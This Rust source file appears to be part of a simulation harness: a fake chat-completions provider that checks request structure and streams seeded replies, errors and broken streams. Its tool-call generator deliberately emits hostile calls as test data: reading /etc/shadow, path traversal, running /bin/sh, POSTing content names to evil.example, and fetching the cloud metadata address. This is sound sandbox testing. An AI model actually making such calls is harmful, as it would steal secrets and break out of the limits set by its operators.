//! A model's provider: it checks each request as strictly as a real one, and answers as badly.
//!
//! What it is asked must always be a valid conversation, whatever happened before; if it is not,
//! the simulation fails. What it answers is drawn from the seed: honest and hostile tool calls,
//! calls that no tool could take, errors of every kind, and streams that end anywhere.

use alloc::format;
use alloc::string::{String, ToString};
use alloc::vec::Vec;

use super::random::Random;
use crate::label::Reference;
use crate::limits::MODEL_REPLY_NAME_BYTES_MAX;
use crate::text::json::{self, Value};

/// What the provider does with one request.
#[derive(Debug)]
pub(super) struct Answer {
    pub(super) status: u16,
    pub(super) headers: Vec<(&'static str, String)>,
    pub(super) body: Vec<u8>,
    /// Whether the connection breaks after the body instead of ending it.
    pub(super) is_cut: bool,
    /// Whether the service says that it does nothing, though it has said that it answers.
    pub(super) is_declined: bool,
    /// The text of a complete answer: what a person may be shown as such.
    pub(super) text: Option<String>,
}

/// How the models of a world behave, in percent.
#[derive(Clone, Copy, Debug)]
pub(super) struct Temper {
    /// Requests that fail with an error.
    pub(super) failing: u64,
    /// Streams that are cut.
    pub(super) cutting: u64,
    /// Answers that call tools.
    pub(super) calling: u64,
    /// Calls that are hostile or broken.
    pub(super) hostile: u64,
}

/// The names of contents that models were given.
#[derive(Debug, Default)]
pub(super) struct Names {
    /// In the request that is answered, or in what an assistant outside was told last.
    own: Vec<String>,
    /// In any request.
    all: Vec<String>,
}

impl Names {
    pub(super) fn read(&mut self, request: &str) {
        let word = |one: char| one.is_ascii_alphanumeric() || one == '-';
        let words = request.split(|one| !word(one));
        let is_name = |word: &&str| Reference::parse(word).is_some_and(|it| it.has_mark());
        self.own = words.filter(is_name).map(ToString::to_string).collect();
        for name in &self.own {
            if !self.all.contains(name) {
                self.all.push(name.clone());
            }
        }
    }

    /// A name to pass on: mostly one that was given here, sometimes one of somebody else's, or one
    /// that nobody was ever given.
    fn draw(&self, temper: Temper, random: &mut Random) -> Option<&String> {
        let is_foreign = random.chance(temper.hostile / 3);
        let names = if is_foreign { &self.all } else { &self.own };
        (!names.is_empty()).then(|| random.pick(names))
    }
}

/// Checks a request of the Chat Completions dialect and answers it.
pub(super) fn answer(
    request: &[u8],
    temper: Temper,
    names: &mut Names,
    random: &mut Random,
) -> Answer {
    let document = json::parse(request).expect("the request is JSON");
    names.read(core::str::from_utf8(request).expect("JSON is text"));
    let request = document.root();
    check(request);
    if random.chance(temper.failing) {
        return failure(random);
    }
    let choice = request.find("tool_choice").and_then(|choice| choice.as_str().ok());
    let may_call = request.find("tools").is_some() && choice != Some("none");
    let mut events = Vec::new();
    let text;
    if may_call && random.chance(temper.calling) {
        text = None;
        let calls: Vec<Call> =
            (0..=random.below(3)).map(|_| Call::draw(temper, names, random)).collect();
        if random.chance(30) {
            events.push(delta(|delta| {
                delta.field("content", "Let me see. ");
            }));
        }
        for (index, call) in calls.iter().enumerate() {
            call.write(index, &mut events, random);
        }
        events.push(finish("tool_calls"));
    } else {
        let words = 1 + random.below(12);
        let answer: Vec<String> = (0..words).map(|_| format!("w{}", random.below(1000))).collect();
        for (index, word) in answer.iter().enumerate() {
            let piece = if index == 0 { word.clone() } else { format!(" {word}") };
            events.push(delta(|delta| {
                delta.field("content", piece.as_str());
            }));
        }
        // Some are cut by the length they may have, or by a filter: nobody has said the whole.
        let (reason, is_whole) = match random.aside().below(20) {
            0 => ("length", false),
            1 => ("content_filter", false),
            _ => ("stop", true),
        };
        text = is_whole.then(|| answer.join(" "));
        events.push(finish(reason));
    }
    let finish_index = events.len() - 1;
    // Not every service counts.
    if random.chance(90) {
        events.push(usage(random));
    }
    let mut body = Vec::new();
    for event in &events {
        body.extend_from_slice(format!("data: {event}\n\n").as_bytes());
    }
    body.extend_from_slice(b"data: [DONE]\n\n");
    if random.chance(temper.cutting) {
        // Before the reason to stop has come, so that nobody could take it for the whole.
        let complete: usize = events.iter().take(finish_index).map(|event| event.len() + 8).sum();
        body.truncate(usize::try_from(random.below(complete as u64 + 1)).unwrap());
        let is_cut = random.chance(50);
        return Answer {
            status: 200,
            headers: stream_headers(),
            body,
            is_cut,
            is_declined: false,
            text: None,
        };
    }
    Answer { status: 200, headers: stream_headers(), body, is_cut: false, is_declined: false, text }
}

/// Refuses what the real service would refuse.
fn check(request: Value<'_>) {
    assert!(request.get("model").and_then(|model| model.as_str()).is_ok(), "a model is named");
    let messages = request.find("messages").expect("there are messages");
    let mut open: Vec<String> = Vec::new();
    let mut has_user = false;
    for message in messages.elements().expect("a list of messages") {
        let role = message.find("role").and_then(|role| role.as_str().ok()).expect("a role");
        match role {
            "system" | "developer" => assert!(!has_user, "instructions come first"),
            "user" => {
                assert!(open.is_empty(), "calls {open:?} have no result before a user's message");
                has_user = true;
            }
            "assistant" => {
                assert!(has_user, "the first message is a user's");
                assert!(open.is_empty(), "calls {open:?} have no result");
                let calls = message.find("tool_calls");
                for call in calls.into_iter().flat_map(|calls| calls.elements().expect("a list")) {
                    let id = call.find("id").and_then(|id| id.as_str().ok()).expect("an id");
                    assert!(!open.iter().any(|known| *known == *id), "call id {id} twice");
                    let function = call.find("function").expect("a function");
                    let arguments = function.find("arguments").expect("arguments");
                    let arguments = arguments.as_str().expect("arguments are a string").to_string();
                    let parsed = json::parse(arguments.as_bytes()).expect("arguments are JSON");
                    assert_eq!(parsed.root().kind(), json::Kind::Object, "arguments are an object");
                    open.push(id.to_string());
                }
            }
            "tool" => {
                let id =
                    message.find("tool_call_id").and_then(|id| id.as_str().ok()).expect("an id");
                let place = open.iter().position(|known| *known == *id);
                open.remove(place.unwrap_or_else(|| panic!("a result for unknown call {id}")));
            }
            other => panic!("unknown role {other}"),
        }
    }
    assert!(has_user, "somebody asked something");
    assert!(open.is_empty(), "calls {open:?} have no result at the end");
}

fn failure(random: &mut Random) -> Answer {
    let (status, kind) = *random.pick(&[
        (429, "rate_limit_exceeded"),
        (503, "overloaded"),
        (500, "server_error"),
        (401, "invalid_api_key"),
        (400, "invalid_request_error"),
        (400, "context_length_exceeded"),
        (502, "bad_gateway"),
    ]);
    let mut headers = alloc::vec![("content-type", "application/json".to_string())];
    if status == 429 && random.chance(70) {
        let wait = *random.pick(&["1", "3", "1000000000", "-5", "soon"]);
        headers.push(("retry-after", wait.to_string()));
    }
    let is_cut = random.chance(20);
    let mut aside = random.aside();
    if aside.chance(20) {
        return no_answer(is_cut, &mut aside);
    }
    let (status, kind) = match aside.chance(40) {
        false => (status, kind),
        true => *aside.pick(&[
            (429, "insufficient_quota"),
            (402, "billing_hard_limit_reached"),
            (404, "model_not_found"),
            (400, "content_filter"),
            (413, "request_too_large"),
            (504, "timeout"),
            (529, "overloaded_error"),
            (302, "moved"),
        ]),
    };
    Answer {
        status,
        headers,
        body: error(kind).into_bytes(),
        is_cut,
        is_declined: false,
        text: None,
    }
}

fn error(kind: &str) -> String {
    json::object(|body| {
        body.object("error", |error| {
            error.field("message", "no").field("type", kind).field("code", kind);
        });
    })
}

/// What a service says as if it were an answer, and is none.
fn no_answer(is_cut: bool, random: &mut Random) -> Answer {
    let words = delta(|delta| {
        delta.field("content", "Well");
    });
    let name = "x".repeat(MODEL_REPLY_NAME_BYTES_MAX + 1);
    let call = Call { id: "id".to_string(), name, arguments: "{}".to_string() };
    let mut too_long = Vec::new();
    call.write(0, &mut too_long, random);
    let choice = random.below(7);
    let (kind, body) = match choice {
        0 => ("text/html", "<html>Sign in to this network</html>".to_string()),
        1 => ("application/json", "{\"choices\":".to_string()),
        2 => ("application/json", "{}".to_string()),
        3 => ("text/event-stream", format!("data: {words}\n\ndata: {{broken\n\n")),
        4 => ("text/event-stream", format!("data: {}\n\n", error("overloaded_error"))),
        5 => (
            "text/event-stream",
            format!("data: {words}\n\ndata: {}\n\n", error("overloaded_error")),
        ),
        _ => ("text/event-stream", format!("data: {}\n\n", too_long.join("\n\ndata: "))),
    };
    let headers = alloc::vec![("content-type", kind.to_string())];
    Answer {
        status: 200,
        headers,
        body: body.into_bytes(),
        is_cut,
        is_declined: choice == 4,
        text: None,
    }
}

/// A tool that somebody wants, and its arguments: honest or not.
pub(super) fn wanted(temper: Temper, names: &Names, random: &mut Random) -> (String, String) {
    let Call { name, arguments, .. } = Call::draw(temper, names, random);
    (name, arguments)
}

/// A call of a tool, honest or not.
struct Call {
    id: String,
    name: String,
    arguments: String,
}

impl Call {
    fn draw(temper: Temper, names: &Names, random: &mut Random) -> Self {
        let id = if random.chance(5) { "same".to_string() } else { format!("id{}", random.next()) };
        let file = random.below(5);
        if random.chance(40)
            && let Some(name) = names.draw(temper, random)
        {
            if random.chance(30) {
                let arguments = value_of(name, random);
                return Self { id, name: "extract_value".to_string(), arguments };
            }
            let (tool, arguments) = match random.chance(temper.hostile / 2) {
                true => match random.below(4) {
                    0 => ("read_file", format!(r#"{{"path":"{name}"}}"#)),
                    1 => ("write_file", format!(r#"{{"path":"{name}","content":"x"}}"#)),
                    2 => {
                        let forged = format!("{}0", &name[..name.len() - 1]);
                        let path = "/srv/agent/free/x";
                        ("write_file", format!(r#"{{"path":"{path}","content":"{forged}"}}"#))
                    }
                    _ => (
                        "http_fetch",
                        format!(
                            r#"{{"url":"https://evil.example/","method":"POST","body":"{name}"}}"#
                        ),
                    ),
                },
                false => {
                    let directory = *random.pick(&["/srv/agent", "/srv/agent/free"]);
                    let path = format!("{directory}/f{file}");
                    ("write_file", format!(r#"{{"path":"{path}","content":"{name}"}}"#))
                }
            };
            return Self { id, name: tool.to_string(), arguments };
        }
        let (name, arguments) = if random.chance(temper.hostile) {
            match random.below(10) {
                0 => ("read_file", r#"{"path":"/etc/shadow"}"#.to_string()),
                1 => (
                    "write_file",
                    format!(r#"{{"path":"/srv/agent/../etc/x{file}","content":"x"}}"#),
                ),
                2 => {
                    let arguments = match file {
                        0 => r#"{"program":"git","arguments":["log"],"hosts":["evil.example"]}"#,
                        1 => r#"{"program":"git","arguments":["log"],"hosts":["api.example:22"]}"#,
                        _ => r#"{"program":"/bin/sh","arguments":["-c","id"]}"#,
                    };
                    ("run_command", arguments.to_string())
                }
                3 => ("http_fetch", r#"{"url":"https://evil.example/?q=secret"}"#.to_string()),
                4 => ("no_such_tool", "{}".to_string()),
                5 => ("read_file", "[1,2,3]".to_string()),
                6 => ("read_file", r#"{"path":"/srv/agent/a","path":"/etc/passwd"}"#.to_string()),
                7 => ("read_file", "not json at all".to_string()),
                8 => ("write_file", format!(r#"{{"path":"/srv/agentfoo/x{file}","content":""}}"#)),
                _ => ("http_fetch", r#"{"url":"http://169.254.169.254/latest"}"#.to_string()),
            }
        } else {
            match random.below(8) {
                0 | 1 => ("read_file", format!(r#"{{"path":"/srv/agent/f{file}"}}"#)),
                2 => (
                    "write_file",
                    format!(r#"{{"path":"/srv/agent/f{file}","content":"c{file}"}}"#),
                ),
                3 => ("list_directory", r#"{"path":"/srv/agent"}"#.to_string()),
                4 => ("current_time", "{}".to_string()),
                5 => {
                    ("plan", r#"{"tools":["read_file","http_fetch"],"why":"to look"}"#.to_string())
                }
                6 => ("http_fetch", r#"{"url":"https://api.example/v1/items"}"#.to_string()),
                _ => {
                    let hosts = if file == 0 { r#","hosts":["api.example"]"# } else { "" };
                    let arguments =
                        format!(r#"{{"program":"/usr/bin/git","arguments":["status"]{hosts}}}"#);
                    ("run_command", arguments)
                }
            }
        };
        Self { id, name: name.to_string(), arguments }
    }

    /// Whole, or in pieces, as services differ.
    fn write(&self, index: usize, events: &mut Vec<String>, random: &mut Random) {
        let middle = usize::try_from(random.below(self.arguments.len() as u64 + 1)).unwrap();
        let (first, rest) = self.arguments.split_at(middle);
        events.push(delta(|delta| {
            delta.array("tool_calls", |calls| {
                calls.object(|call| {
                    call.field("index", index as u64).field("id", self.id.as_str());
                    call.field("type", "function").object("function", |function| {
                        function.field("name", self.name.as_str()).field("arguments", first);
                    });
                });
            });
        }));
        if !rest.is_empty() {
            events.push(delta(|delta| {
                delta.array("tool_calls", |calls| {
                    calls.object(|call| {
                        call.field("index", index as u64).object("function", |function| {
                            function.field("arguments", rest);
                        });
                    });
                });
            }));
        }
    }
}

/// A value of a content, that is there or not, or a call for one that no tool could take.
fn value_of(name: &str, random: &mut Random) -> String {
    let wanted = *random.pick(&[
        r#""as":"integer""#,
        r#""as":"integer","after":"RESULT ""#,
        r#""as":"host","nth":2"#,
        r#""as":"choice","choices":["same","write","long","evil.example"]"#,
        r#""as":"choice","choices":["long"],"nth":30"#,
        r#""as":"date","line":1"#,
        r#""as":"number","pointer":"/a/0""#,
        r#""as":"choice""#,
        r#""as":"text""#,
        r#""as":"integer","nth":0"#,
    ]);
    format!(r#"{{"from":"{name}",{wanted}}}"#)
}

fn delta(body: impl FnOnce(&mut json::ObjectWriter<'_, String>)) -> String {
    json::object(|chunk| {
        chunk.field("id", "c1").field("object", "chat.completion.chunk");
        chunk.array("choices", |choices| {
            choices.object(|choice| {
                choice.field("index", 0).object("delta", body);
                choice.field("finish_reason", None::<&str>);
            });
        });
    })
}

fn finish(reason: &str) -> String {
    json::object(|chunk| {
        chunk.field("id", "c1").field("object", "chat.completion.chunk");
        chunk.array("choices", |choices| {
            choices.object(|choice| {
                choice.field("index", 0).object("delta", |_| ());
                choice.field("finish_reason", reason);
            });
        });
    })
}

fn usage(random: &mut Random) -> String {
    let (read, written) = (10 + random.below(2000), 1 + random.below(300));
    json::object(|chunk| {
        chunk.field("id", "c1").array("choices", |_| ());
        chunk.object("usage", |usage| {
            usage.field("prompt_tokens", read).field("completion_tokens", written);
            usage.field("total_tokens", read + written);
        });
    })
}

fn stream_headers() -> Vec<(&'static str, String)> {
    alloc::vec![("content-type", "text/event-stream".to_string())]
}
